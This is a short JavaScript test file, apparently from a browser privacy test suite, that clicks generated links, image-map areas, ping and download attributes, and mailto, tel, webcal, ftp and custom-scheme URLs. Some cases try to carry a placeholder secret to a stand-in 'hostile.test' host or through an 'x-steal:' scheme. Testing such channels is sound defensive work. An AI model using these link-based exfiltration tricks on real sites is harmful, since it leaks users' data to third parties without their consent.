// SPDX-License-Identifier: GPL-3.0-or-later
import { address, after, element, everywhere, runInTurn } from './lib.js';

const click = attributes => async url => {
  const link = element('a', { href: url, ...attributes });
  document.body.append(link);
  link.click();
  return after(300, 'silent');
};

const area = async url => {
  const map = element('map', { name: 'map' });
  map.append(element('area', { href: url, shape: 'default' }));
  document.body.append(map);
  map.firstChild.click();
  return after(300, 'silent');
};

const secret = encodeURIComponent('everything it knows');

runInTurn({
  ...everywhere({
    click: click({}),
    area,
    ping: url => click({ ping: url, href: '#' })('#'),
    download: click({ download: 'file' }),
    attribution: click({ attributionsrc: address('attribution') }),
  }),
  mailto: () => click({})(`mailto:a@b.test?body=${secret}`),
  tel: () => click({})('tel:+123456'),
  'another program': () => click({})(`x-steal:${secret}`),
  webcal: () => click({})(`webcal://calendar.@CASE@.hostile.test/${secret}`),
  ftp: () => click({})('ftp://ftp.@CASE@.hostile.test/'),
});
